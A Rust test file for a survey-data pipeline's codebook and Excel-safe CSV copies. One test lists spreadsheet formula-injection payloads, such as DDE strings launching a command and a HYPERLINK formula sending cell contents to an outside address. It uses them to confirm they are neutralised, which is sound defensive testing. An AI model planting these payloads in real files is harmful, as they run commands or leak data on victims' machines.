//! What goes with the CSV files: the codebook that explains them, and the copies for Excel.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

use pipeline_config::{Project, load_project};
use pipeline_tests::scenario::{HODAN, Scenario, WARSAME, run_info, sent};
use pipeline_tests::{binary, copy_directory, files_below, succeed, workspace};
use processing::{
    CodedFiles, InMemory, Mode, OutputFile, RawData, codebook, generate_outputs, write_excel_copy,
};
use proptest::prelude::*;

/// One row of a CSV file, by column.
type Row = BTreeMap<String, String>;

#[test]
fn the_codebook_covers_every_column_of_every_file_in_their_order() {
    for name in ["demo", "eu_pcve"] {
        let project = project(name);
        let no_data = RawData::default();
        let no_labels = CodedFiles::new();
        let outputs =
            generate_outputs(&project, &run_info(), &no_data, &no_labels, Mode::AllStages, 1);
        let outputs = outputs.unwrap();
        for (file, csv) in csv_files(&outputs) {
            assert_eq!(columns_of(&project, file), header(csv), "{file} of {name}");
        }
    }
}

#[test]
fn every_row_of_the_codebook_says_what_the_column_means_and_how_it_was_made() {
    for name in ["demo", "eu_pcve"] {
        for row in rows(&codebook(&project(name))) {
            for column in ["files", "column", "meaning", "how_it_was_made"] {
                assert!(!row[column].is_empty(), "no `{column}` in {row:?}");
            }
            let in_individuals = row["files"].contains("individuals");
            assert_eq!(!row["several_messages_of_a_person"].is_empty(), in_individuals, "{row:?}");
        }
    }
}

#[test]
fn every_value_of_the_demo_is_in_the_codebook() {
    let golden = workspace().join("tests/golden/demo");
    let mut values: BTreeMap<(String, String), BTreeSet<String>> = BTreeMap::new();
    for row in rows(&codebook(&project("demo"))) {
        for file in row["files"].split("; ") {
            let key = (file.to_owned(), row["column"].clone());
            values.entry(key).or_default().insert(row["value"].clone());
        }
    }
    for file in ["production", "messages", "individuals"] {
        for row in rows(&std::fs::read(golden.join(format!("{file}.csv"))).unwrap()) {
            for (column, cell) in row {
                let known = &values[&(file.to_owned(), column.clone())];
                // The empty value stands for any text.
                let is_known = known.contains("") || known.contains(&cell);
                assert!(is_known, "`{cell}` in `{column}` of {file} is not in the codebook");
            }
        }
    }
}

#[test]
fn a_column_with_one_code_has_a_row_for_each_code() {
    let woman = codebook_row("gender", "woman");
    assert_eq!(woman["value_label"], "woman");
    assert_eq!(woman["numeric_value"], "2");
    assert_eq!(woman["code_type"], "Normal");
    assert_eq!(woman["scheme"], "Gender");
    assert_eq!(woman["scheme_version"], "0.1.0.0");
    assert_eq!(woman["code_id"], "code-woman");
    assert_eq!(
        woman["how_it_was_made"],
        "Suggested by the program from the words in `gender_raw` (cleaner `gender`), then \
         confirmed or changed by hand in the Coda dataset `SCHOOL_GARDENS_gender`."
    );
    assert_eq!(codebook_row("gender", "NR")["value_note"], "nobody has labelled the answer yet");
    assert_eq!(codebook_row("gender", "NA")["numeric_value"], "-10");
}

#[test]
fn a_column_for_one_of_several_codes_has_rows_for_1_and_0() {
    let column = "rqa_s01e01_vegetables_for_school_meals";
    let yes = codebook_row(column, "1");
    assert_eq!(yes["value_label"], "vegetables for school meals");
    assert_eq!(yes["numeric_value"], "1");
    assert_eq!(
        yes["meaning"],
        "RQA S01E01 - What to grow in a school garden: whether `rqa_s01e01_raw` says: vegetables \
         for school meals."
    );
    let no = codebook_row(column, "0");
    assert_eq!(no["value_note"], "the code was not given");
    assert_eq!(no["numeric_value"], "");
    assert_eq!(codebook_row(column, "STOP")["value_label"], "consent withdrawn");
}

#[test]
fn codes_that_follow_from_others_say_from_which() {
    assert_eq!(
        codebook_row("age_category", "18_to_35")["how_it_was_made"],
        "Concluded from the column `age`."
    );
    let zone = codebook_row("zone", "scz");
    let how = &zone["how_it_was_made"];
    assert!(how.ends_with("NC for people who gave no location."), "{how}");
}

#[test]
fn texts_say_that_they_are_as_typed_and_how_they_are_joined() {
    let text = codebook_row("rqa_s01e01_raw", "");
    assert!(text["how_it_was_made"].starts_with("As the person typed it."));
    assert_eq!(text["several_messages_of_a_person"], "All texts, oldest first, joined with `;`.");
    assert_eq!(text["files"], "production; messages; individuals");
    // Consent is looked at after the production file was made.
    assert_eq!(codebook_row("rqa_s01e01_raw", "STOP")["files"], "messages; individuals");
}

#[test]
fn a_field_left_out_of_individuals_says_so() {
    let mut project = project("demo");
    let demographic = &mut project.plans.demographic;
    for plan in demographic.iter_mut().filter(|plan| plan.raw_field == "gender_raw") {
        plan.coding_configurations[0].include_in_individuals_file = false;
    }
    let rows = rows(&codebook(&project));
    let row = rows.iter().find(|row| row["column"] == "gender").unwrap();
    assert_eq!(
        row["several_messages_of_a_person"],
        "Left out: the column is empty in individuals."
    );
}

#[test]
fn a_hostile_text_does_not_become_a_formula_in_the_excel_copy() {
    let hostile = [
        "=HYPERLINK(\"http://example.org/?\"&A1,\"haa\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " \u{200f}＝1+1",
        "haa;=1+1;maya",
        "haa\n=1+1;maya",
        "\";=1+1;\"",
    ];
    let mut scenario = Scenario::new();
    for text in hostile {
        scenario = scenario.message(&sent(1, HODAN, text)).message(&sent(2, WARSAME, text));
    }
    scenario = scenario.survey(HODAN, &[("Gender", Some("=1+1"))]);
    let ran = scenario.run();
    for (file, csv) in csv_files(&ran.outputs) {
        let copy = excel_copy(csv);
        for separator in [',', ';', '\t'] {
            for cell in cells_in_excel(&copy, separator) {
                assert!(!is_formula(&cell), "a formula in {file}: `{cell}`");
            }
        }
    }
    // Every text is still there.
    let copy = excel_copy(ran.file(&OutputFile::ProductionCsv));
    assert!(copy.contains("'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"haa\"\")"), "{copy}");
}

proptest! {
    #[test]
    fn no_text_becomes_a_formula(
        texts in prop::collection::vec("[ \t\r\n\"',;=+@a1\u{200f}\u{feff}＝＋－-]{0,12}", 1..4)
    ) {
        let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
        writer.write_record(std::iter::once(HODAN).chain(texts.iter().map(String::as_str))).unwrap();
        let copy = excel_copy(&writer.into_inner().unwrap());
        for separator in [',', ';', '\t'] {
            for cell in cells_in_excel(&copy, separator) {
                prop_assert!(!is_formula(&cell), "`{}` in {:?}", cell, copy);
            }
        }
    }
}

#[test]
fn the_excel_copies_show_the_same_cells_as_the_csv_files() {
    let demo = Demo::new();
    succeed(demo.stage_3().arg("--excel")).unwrap();
    for file in ["production", "messages", "individuals", "codebook"] {
        let original = std::fs::read(demo.output(&format!("{file}.csv"))).unwrap();
        let copy = std::fs::read_to_string(demo.output(&format!("{file}_excel.csv"))).unwrap();
        let without_mark = copy.strip_prefix('\u{feff}').expect("a byte order mark");
        assert!(without_mark.ends_with("\r\n"));
        let cells = |csv: &str| -> Vec<String> { cells_in_excel(csv, ',') };
        let (expected, found) = (cells(std::str::from_utf8(&original).unwrap()), cells(&copy));
        assert_eq!(expected.len(), found.len(), "{file}");
        for (expected, found) in expected.iter().zip(&found) {
            assert_eq!(expected.replace('\'', ""), found.replace('\'', ""), "{file}");
        }
    }
}

#[test]
fn copies_of_an_earlier_run_do_not_stay_beside_newer_files() {
    let demo = Demo::new();
    succeed(demo.stage_3().arg("--excel")).unwrap();
    assert!(demo.output("messages_excel.csv").is_file());
    succeed(&mut demo.stage_3()).unwrap();
    for (path, _) in files_below(&demo.output("")).unwrap() {
        assert!(!path.to_string_lossy().contains("_excel"), "`{}` stayed", path.display());
    }
}

#[test]
fn every_run_writes_the_codebook() {
    let demo = Demo::new();
    succeed(&mut demo.stage_3()).unwrap();
    let first = std::fs::read(demo.output("codebook.csv")).unwrap();
    assert_eq!(first, codebook(&project("demo")));
    let demo = Demo::new();
    succeed(demo.stage_3().args(["--auto-code-only", "--excel"])).unwrap();
    assert_eq!(std::fs::read(demo.output("codebook.csv")).unwrap(), first);
    assert!(demo.output("production_excel.csv").is_file());
}

#[test]
fn the_script_takes_the_option() {
    let demo = Demo::new();
    let directory = binary("processing", "generate-outputs").unwrap();
    let script = workspace().join("run_scripts/3_generate_outputs.sh");
    let mut command = Command::new(script);
    command.env("PCVE_BIN_DIR", directory.parent().unwrap()).arg("--excel").args(demo.arguments());
    succeed(&mut command).unwrap();
    assert!(demo.output("individuals_excel.csv").is_file());
}

/// The row of the demo's codebook for one value of a column.
#[track_caller]
fn codebook_row(column: &str, value: &str) -> Row {
    let mut rows = rows(&codebook(&project("demo"))).into_iter();
    let row = rows.find(|row| row["column"] == column && row["value"] == value);
    row.unwrap_or_else(|| panic!("no row for `{value}` in `{column}`"))
}

fn project(name: &str) -> Project {
    let path = format!("pipeline_configs/{name}/pipeline_config.json");
    load_project(&workspace().join(path)).unwrap()
}

/// The columns that the codebook says a file has, each once.
fn columns_of(project: &Project, file: &str) -> Vec<String> {
    let mut columns: Vec<String> = Vec::new();
    for row in rows(&codebook(project)) {
        if row["files"].split("; ").any(|known| known == file) && !columns.contains(&row["column"])
        {
            columns.push(row["column"].clone());
        }
    }
    columns
}

fn csv_files(outputs: &InMemory) -> [(&'static str, &[u8]); 3] {
    [
        ("production", &outputs.files[&OutputFile::ProductionCsv]),
        ("messages", &outputs.files[&OutputFile::MessagesCsv]),
        ("individuals", &outputs.files[&OutputFile::IndividualsCsv]),
    ]
}

fn header(csv: &[u8]) -> Vec<String> {
    csv::Reader::from_reader(csv).headers().unwrap().iter().map(str::to_owned).collect()
}

fn rows(csv: &[u8]) -> Vec<Row> {
    let mut reader = csv::Reader::from_reader(csv);
    reader.deserialize().map(Result::unwrap).collect()
}

fn excel_copy(csv: &[u8]) -> String {
    let mut copy = Vec::new();
    write_excel_copy(csv, &mut copy).unwrap();
    String::from_utf8(copy).unwrap()
}

/// The cells that a spreadsheet program makes of a CSV file when it expects `separator`.
///
/// As Excel does, it takes quotes only at the beginning of a cell for quotes, and what comes after
/// the closing one for more text.
fn cells_in_excel(csv: &str, separator: char) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut characters = csv.trim_start_matches('\u{feff}').chars().peekable();
    let (mut at_start, mut quoted) = (true, false);
    while let Some(character) = characters.next() {
        let cell = cells.last_mut().unwrap();
        match character {
            '"' if at_start => quoted = true,
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' if quoted => quoted = false,
            '\r' if !quoted && characters.peek() == Some(&'\n') => {}
            _ if !quoted && (character == separator || matches!(character, '\r' | '\n')) => {
                cells.push(String::new());
                at_start = true;
                continue;
            }
            _ => cell.push(character),
        }
        at_start = false;
    }
    cells
}

/// Whether a spreadsheet program calculates the cell; a number is what it is.
fn is_formula(cell: &str) -> bool {
    let marks = ['\u{200f}', '\u{feff}'];
    let text = cell.trim_start_matches(|c: char| c.is_whitespace() || marks.contains(&c));
    text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        && text.trim_end().parse::<f64>().is_err()
}

/// A copy of the demo project in a temporary directory.
struct Demo(tempfile::TempDir);

impl Demo {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let demo = workspace().join("pipeline_configs/demo");
        for part in ["Raw Data", "Coded Coda Files"] {
            let part = Path::new("data_root").join(part);
            copy_directory(&demo.join(&part), &directory.path().join(&part)).unwrap();
        }
        Self(directory)
    }

    fn output(&self, name: &str) -> PathBuf {
        self.0.path().join("data_root/Outputs").join(name)
    }

    fn arguments(&self) -> [PathBuf; 4] {
        let demo = workspace().join("pipeline_configs/demo");
        let configuration = demo.join("pipeline_config.json");
        let data_root = self.0.path().join("data_root");
        ["tests@example.org".into(), demo.join("credentials.json"), configuration, data_root]
    }

    fn stage_3(&self) -> Command {
        let mut command = Command::new(binary("processing", "generate-outputs").unwrap());
        command.args(self.arguments());
        command
    }
}
